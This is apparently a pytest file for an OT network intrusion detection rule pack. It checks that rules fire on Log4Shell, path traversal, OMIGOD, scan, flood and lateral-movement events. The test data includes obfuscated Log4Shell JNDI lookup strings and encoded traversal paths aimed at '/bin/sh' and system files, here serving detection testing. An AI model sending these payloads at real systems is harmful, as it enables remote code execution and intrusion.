"""The built-in IT / network rule pack (``it_*.yaml``, ``net_*.yaml``): its rules are complete
and documented, and the patterns behind them behave as intended on events written here
(obfuscated Log4Shell strings, encoded traversals, zone and jump-host context, thresholds at
their edges, the anonymous-pipe sequence)."""

from __future__ import annotations

import functools
from typing import Any

import pytest

from otshield.detect.alert import CONFIDENCES, SEVERITIES, Alert
from otshield.detect.attack import load_attack_table
from otshield.detect.context import AssetContext
from otshield.detect.rules import BUILTIN_DIR, RuleEngine, RuleSet, load_rules
from otshield.detect.rules.fields import build_event, dataset_classes
from otshield.events import Event
from otshield.inventory.site import LoadedSite, parse_site

PACK_FILES = sorted([*BUILTIN_DIR.glob("it_*.yaml"), *BUILTIN_DIR.glob("net_*.yaml")])

SITE = """
zones:
  - {name: Office, level: 4, subnets: [10.1.0.0/16]}
  - {name: DMZ, level: 3, subnets: [10.2.0.0/24]}
  - {name: Control, level: 2, subnets: [10.3.0.0/24]}
  - {name: Cell, level: 1, subnets: [10.3.1.0/24]}
assets:
  10.3.0.50: {role: controller}
remote_access:
  jump_hosts: [10.2.0.9]
"""


@functools.cache
def pack() -> RuleSet:
    return load_rules(PACK_FILES, builtin=False)


def only(*rule_ids: str) -> RuleSet:
    rules = [r for r in pack() if r.id in rule_ids]
    assert len(rules) == len(rule_ids), rule_ids
    return pack().only(*rules)


def ev(dataset: str, ts: float = 1.0, **fields: Any) -> Event:
    problems: list[str] = []
    event = build_event(dataset_classes()[dataset], {"ts": ts, **fields}, "test", problems)
    assert event is not None and not problems, problems
    return event


def run(rules: RuleSet, events: list[Event], site: LoadedSite | None = None) -> list[Alert]:
    out: list[Alert] = []
    engine = RuleEngine(rules, AssetContext(site), out.append)
    for event in events:
        engine.observe(event)
    engine.finish()
    return out


def fired(rules: RuleSet, events: list[Event], site: LoadedSite | None = None) -> list[str]:
    return sorted(a.rule_id for a in run(rules, events, site))


# -- the pack as a whole --------------------------------------------------------------------------

def test_pack_files_load_without_problems() -> None:
    assert len(PACK_FILES) >= 9
    assert pack().errors == []
    assert len(pack()) >= 60


def test_rules_are_named_and_documented() -> None:
    table = load_attack_table()
    for rule in pack():
        assert rule.id.startswith(("it.", "net.")), rule.id
        assert rule.id == rule.id.lower() and rule.id.count(".") >= 2, rule.id
        assert rule.severity in SEVERITIES and rule.severity != "info", rule.id
        assert rule.confidence in CONFIDENCES, rule.id
        assert rule.techniques, rule.id
        for tid in rule.techniques:
            assert table.get(tid) is not None, (rule.id, tid)
        assert len(rule.description) >= 120, rule.id
        assert len(rule.response) >= 60, rule.id
        assert rule.tags, rule.id
        assert {e.expect_match for e in rule.examples} == {True, False}, rule.id


def test_rule_ids_are_unique_across_the_pack() -> None:
    ids = [r.id for r in pack()]
    assert len(ids) == len(set(ids))


# -- exploit strings ------------------------------------------------------------------------------

@pytest.mark.parametrize(("uri", "expected"), [
    ("/?x=${jndi:ldap://198.51.100.7:1389/a}", True),
    ("/?x=${${lower:j}ndi:ldap://x/a}", True),
    ("/?x=${${::-j}${::-n}${::-d}${::-i}:rmi://x/a}", True),
    ("/?x=${${env:BARFOO:-j}ndi:dns://x/a}", True),
    ("/?x=%24%7Bjndi:ldap://x/a%7D", True),
    ("/?x=%24%7b%24%7blower:j%7dndi:x", True),
    ("/price?currency=$USD", False),
    ("/template/{name}", False),
    ("/a?b=${user}", False),
])
def test_log4shell_uri_variants(uri: str, expected: bool) -> None:
    alerts = fired(only("it.http.log4shell"), [ev(
        "http", method="GET", uri=uri, src_ip="198.51.100.7", dst_ip="10.2.0.20",
        dst_port=8080, transport="tcp")])
    assert alerts == (["it.http.log4shell"] if expected else [])


def test_log4shell_in_other_headers() -> None:
    base: dict[str, Any] = {"method": "GET", "uri": "/", "src_ip": "198.51.100.7",
                            "dst_ip": "10.2.0.20", "dst_port": 80, "transport": "tcp"}
    events = [
        ev("http", **base, user_agent="${jndi:ldap://x/a}"),
        ev("http", **base, referrer="http://x/${jndi:ldap://x/a}"),
        ev("http", **base, x_forwarded_for="${jndi:ldap://x/a}"),
        ev("http", **base, request_headers=[{"name": "x-api-version",
                                             "value": "${${upper:j}ndi:ldap://x/a}"}]),
        ev("http", **base, user_agent="Mozilla/5.0", request_headers=[
            {"name": "accept", "value": "text/html"}]),
    ]
    alerts = run(only("it.http.log4shell"), events)
    # one alert per source/destination pair, counting the four carrying a lookup
    assert len(alerts) == 4


@pytest.mark.parametrize(("uri", "expected"), [
    ("/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh", True),
    ("/cgi-bin/.%%32%65/.%%32%65/bin/sh", True),
    ("/static/%2e%2e%2f%2e%2e%2fetc/hosts", True),
    ("/files?name=..\\..\\boot.ini", True),
    ("/%c0%ae%c0%ae/%c0%ae%c0%ae/x", True),
    ("/release-1..2/notes.html", False),
    ("/img/a.b.c/d.png", False),
])
def test_path_traversal_variants(uri: str, expected: bool) -> None:
    alerts = fired(only("it.http.path_traversal"), [ev(
        "http", method="GET", uri=uri, src_ip="198.51.100.7", dst_ip="10.2.0.20",
        dst_port=80, transport="tcp")])
    assert alerts == (["it.http.path_traversal"] if expected else [])


def test_omigod_needs_an_accepted_unauthenticated_wsman_request() -> None:
    base: dict[str, Any] = {"method": "POST", "uri": "/wsman", "src_ip": "10.2.0.66",
                            "dst_ip": "10.2.0.52", "dst_port": 5986, "transport": "tcp"}
    rules = only("it.http.omi_unauthenticated")
    assert fired(rules, [ev("http", **base, status=200)]) == ["it.http.omi_unauthenticated"]
    assert fired(rules, [ev("http", **base, status=401)]) == []
    assert fired(rules, [ev("http", **base, status=200, auth_scheme="Negotiate")]) == []
    assert fired(rules, [ev("http", **{**base, "dst_port": 8080}, status=200)]) == []


# -- zones, jump hosts, roles ---------------------------------------------------------------------

def test_zone_rules_stay_silent_without_a_site_file() -> None:
    rules = only("it.lateral.remote_session_into_ot", "it.lateral.smb_into_ot",
                 "it.remote.jump_host_bypass", "it.internet.ot_outbound")
    events = [
        ev("rdp", src_ip="10.1.0.5", dst_ip="10.3.0.20", dst_port=3389, transport="tcp"),
        ev("smb", version=2, command="TREE_CONNECT", src_ip="10.1.0.5", dst_ip="10.3.0.20",
           dst_port=445, transport="tcp"),
        ev("flow", start=1.0, transport="tcp", state="closed", src_ip="10.3.0.20",
           dst_ip="52.1.2.3", dst_port=443),
    ]
    assert fired(rules, events) == []


def test_zone_rules_with_a_site_file() -> None:
    site = parse_site(SITE)
    rules = only("it.lateral.remote_session_into_ot", "it.remote.jump_host_bypass",
                 "it.internet.ot_outbound", "it.internet.controller")
    events = [
        # office -> control: lateral movement and a jump-host bypass
        ev("rdp", src_ip="10.1.0.5", dst_ip="10.3.0.20", dst_port=3389, transport="tcp"),
        # the jump host -> control: allowed
        ev("ssh", src_ip="10.2.0.9", dst_ip="10.3.0.20", dst_port=22, transport="tcp"),
        # control -> control: not remote access
        ev("ssh", src_ip="10.3.0.21", dst_ip="10.3.1.7", dst_port=22, transport="tcp"),
        # control -> internet: outbound from OT, and a controller talking to the internet
        ev("flow", start=1.0, transport="tcp", state="closed", protocol="tls",
           src_ip="10.3.0.50", dst_ip="52.1.2.3", dst_port=443),
    ]
    assert fired(rules, events, site) == [
        "it.internet.controller", "it.internet.ot_outbound",
        "it.lateral.remote_session_into_ot", "it.remote.jump_host_bypass"]


def test_jump_host_bypass_needs_designated_jump_hosts() -> None:
    site = parse_site(SITE.replace("remote_access:\n  jump_hosts: [10.2.0.9]\n", ""))
    events = [ev("rdp", src_ip="10.1.0.5", dst_ip="10.3.0.20", dst_port=3389, transport="tcp")]
    assert fired(only("it.remote.jump_host_bypass"), events, site) == []


def test_dns_from_field_level_and_from_controllers() -> None:
    site = parse_site(SITE)
    rules = only("it.dns.field_device_query", "it.dns.controller_query")
    q: dict[str, Any] = {"trans_id": 1, "kind": "answer", "service": "dns", "opcode": "QUERY",
                         "query": "pool.ntp.org", "qtype": "A", "dst_ip": "10.3.0.1",
                         "dst_port": 53, "transport": "udp"}
    # level 1 device: the medium rule; a level 2 controller: the low one; an HMI: none
    assert fired(rules, [ev("dns", **q, src_ip="10.3.1.7")], site) == [
        "it.dns.field_device_query"]
    assert fired(rules, [ev("dns", **q, src_ip="10.3.0.50")], site) == [
        "it.dns.controller_query"]
    assert fired(rules, [ev("dns", **q, src_ip="10.3.0.21")], site) == []


# -- thresholds at their edges --------------------------------------------------------------------

def _syn(ts: float, src: str, dst: str, port: int) -> Event:
    return ev("flow", ts=ts, start=ts, transport="tcp", state="syn_sent", src_ip=src,
              dst_ip=dst, dst_port=port, packets_to_server=1)


def test_port_scan_message_and_edge() -> None:
    rules = only("net.scan.tcp_port_scan")
    ports = [21, 22, 23, 80, 102, 135, 443, 445, 502, 3389]
    alerts = run(rules, [_syn(1 + i / 100, "10.2.0.66", "10.3.0.10", p)
                         for i, p in enumerate(ports)])
    assert len(alerts) == 1
    assert alerts[0].description == (
        "10.2.0.66 scanned at least 10 TCP ports of 10.3.0.10 within 60 s")
    assert alerts[0].techniques == ("T0846",)
    # the same ports over two destinations: five each, no scan of either
    spread = [_syn(1 + i / 100, "10.2.0.66", f"10.3.0.{10 + i % 2}", p)
              for i, p in enumerate(ports)]
    assert run(rules, spread) == []


def test_arp_sweep_edge() -> None:
    rules = only("net.scan.arp_sweep")

    def sweep(n: int) -> list[Event]:
        return [ev("arp", ts=i / 100, operation="request", sender_mac="02:00:00:00:00:66",
                   sender_ip="10.3.0.66", target_mac="00:00:00:00:00:00",
                   target_ip=f"10.3.0.{i + 1}") for i in range(n)]
    assert run(rules, sweep(29)) == []
    alerts = run(rules, sweep(30))
    assert [a.description for a in alerts] == [
        "10.3.0.66 (02:00:00:00:00:66) ARP-swept at least 30 addresses within 10 s"]


def test_dhcp_flood_and_starvation_are_told_apart() -> None:
    rules = only("net.flood.dhcp_client", "net.flood.dhcp_starvation")
    common: dict[str, Any] = {"op": "request", "message_type": "DISCOVER", "src_ip": "0.0.0.0",
                              "src_port": 68, "dst_ip": "255.255.255.255", "dst_port": 67,
                              "transport": "udp"}
    one_client = [ev("dhcp", ts=1 + i / 1000, xid=i, client_mac="64:65:3a:61:64:3a", **common)
                  for i in range(200)]
    many_clients = [ev("dhcp", ts=1 + i / 10, xid=i, client_mac=f"02:00:00:00:01:{i:02x}",
                       **common) for i in range(60)]
    assert fired(rules, one_client) == ["net.flood.dhcp_client"]
    assert fired(rules, many_clients) == ["net.flood.dhcp_starvation"]


def test_internet_probe_counts_only_external_sources() -> None:
    rules = only("net.scan.internet_probe")
    outside = [_syn(i * 3000.0, "125.27.226.209", f"10.10.0.{i}", 80) for i in range(5)]
    inside = [_syn(i * 3000.0, "10.0.0.9", f"10.10.0.{i}", 80) for i in range(5)]
    assert fired(rules, outside) == ["net.scan.internet_probe"]
    assert fired(rules, inside) == []
    # five hosts, but spread over more than six hours
    slow = [_syn(i * 6000.0, "125.27.226.209", f"10.10.0.{i}", 80) for i in range(5)]
    assert fired(rules, slow) == []


# -- sequences ------------------------------------------------------------------------------------

def test_anonymous_rpc_pipe_sequence_window() -> None:
    rules = only("it.smb.anonymous_rpc_pipe")
    setup = ev("smb", ts=10.0, version=2, command="SESSION_SETUP", status="STATUS_SUCCESS",
               anonymous=True, src_ip="10.2.0.66", dst_ip="10.2.0.2", dst_port=445,
               transport="tcp")

    def pipe(ts: float, src: str = "10.2.0.66") -> Event:
        return ev("smb", ts=ts, version=2, command="CREATE", status="STATUS_SUCCESS",
                  tree="\\\\10.2.0.2\\IPC$", filename="samr", src_ip=src, dst_ip="10.2.0.2",
                  dst_port=445, transport="tcp")
    assert fired(rules, [setup, pipe(11.0)]) == ["it.smb.anonymous_rpc_pipe"]
    assert fired(rules, [setup, pipe(10.0 + 301)]) == []          # beyond 5 minutes
    assert fired(rules, [setup, pipe(11.0, src="10.2.0.67")]) == []  # another client
    assert fired(rules, [pipe(9.0), setup]) == []                  # wrong order


# -- network layer --------------------------------------------------------------------------------

def test_crafted_ipv6_only_for_icmpv6_to_the_broadcast_mac() -> None:
    rules = only("it.ipv6.crafted_broadcast")
    flow: dict[str, Any] = {"start": 1.0, "src_ip": "fe80::1", "dst_ip": "fec0::2",
                            "src_mac": "00:0c:29:29:d3:86", "packets_to_server": 1}
    assert fired(rules, [ev("flow", **flow, transport="ipv6-icmp",
                            dst_mac="ff:ff:ff:ff:ff:ff")]) == ["it.ipv6.crafted_broadcast"]
    assert fired(rules, [ev("flow", **flow, transport="ipv6-icmp",
                            dst_mac="33:33:00:00:00:01")]) == []
    assert fired(rules, [ev("flow", **{**flow, "src_ip": "10.0.0.1", "dst_ip": "10.0.0.2"},
                            transport="icmp", dst_mac="ff:ff:ff:ff:ff:ff")]) == []


def test_attack_tool_port_needs_a_two_way_session_to_the_port() -> None:
    rules = only("it.c2.attack_tool_port")
    base: dict[str, Any] = {"start": 1.0, "transport": "tcp", "state": "closed",
                            "src_ip": "10.3.0.5", "dst_ip": "10.3.0.6"}
    assert fired(rules, [ev("flow", **base, dst_port=4444, bytes_to_server=10,
                            bytes_to_client=10)]) == ["it.c2.attack_tool_port"]
    assert fired(rules, [ev("flow", **base, dst_port=4444, bytes_to_server=10)]) == []
    assert fired(rules, [ev("flow", **base, src_port=4444, dst_port=80, bytes_to_server=10,
                            bytes_to_client=10)]) == []


def test_icmp_sweep_ignores_long_lived_monitoring_pings() -> None:
    rules = only("net.scan.icmp_sweep")

    def pings(packets: int) -> list[Event]:
        return [ev("flow", ts=1 + i / 100, start=1.0, transport="icmp", state="active",
                   src_ip="10.2.0.40", dst_ip=f"10.3.0.{i + 1}", packets_to_server=packets,
                   packets_to_client=packets) for i in range(20)]
    assert fired(rules, pings(1)) == ["net.scan.icmp_sweep"]
    assert fired(rules, pings(60)) == []
